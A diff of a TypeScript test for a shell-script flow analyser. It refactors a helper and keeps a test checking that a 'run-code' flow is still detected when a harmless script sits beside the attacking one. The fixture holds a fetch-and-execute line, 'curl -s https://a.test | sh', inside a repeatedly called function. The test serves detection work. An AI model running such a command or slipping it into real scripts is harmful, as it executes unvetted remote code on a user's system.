@@ -21,12 +21,15 @@ const flows = (text: string) =>
     taints: taintsOf(values).map((taint) => taint.kind),
   }))
 
+const codeRunIn = (...pieces: readonly Piece[]) =>
+  analyseFlows({ pieces }).flows.filter(({ kind }) => kind === 'run-code')
+
 // WUN-103: whoever lays a second program beside an attack hides nothing by it
 it('finds again what a function does that is called more than once, when all programs are followed once more', () => {
   const attack = piece('get() { curl -s https://a.test | sh; }\nget\nget\nget\nget\nget', 'tools/a.sh')
-  const found = (pieces: readonly Piece[]) => analyseFlows({ pieces }).flows.filter(({ kind }) => kind === 'run-code')
-  expect(found([attack]).length).toBeGreaterThan(0)
-  expect(found([attack, piece('cat notes.txt', 'tools/b.sh')]).length).toBeGreaterThan(0)
+
+  expect(codeRunIn(attack).length).toBeGreaterThan(0)
+  expect(codeRunIn(attack, piece('cat notes.txt', 'tools/b.sh')).length).toBeGreaterThan(0)
 })
 
 // WUN-103: a shell script is followed through pipes, files, variables and functions
